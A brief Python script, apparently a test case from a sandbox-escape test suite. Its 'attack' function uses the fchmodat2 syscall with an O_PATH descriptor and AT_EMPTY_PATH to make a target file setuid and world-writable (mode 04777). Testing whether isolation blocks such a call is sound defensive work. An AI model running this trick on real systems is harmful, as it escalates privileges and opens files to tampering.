import os

from calls import AT_EMPTY_PATH, call
from inside import run


def attack(target):
    call("fchmodat2", os.open(target.file, os.O_PATH), b"", 0o4777, AT_EMPTY_PATH)


run(attack)
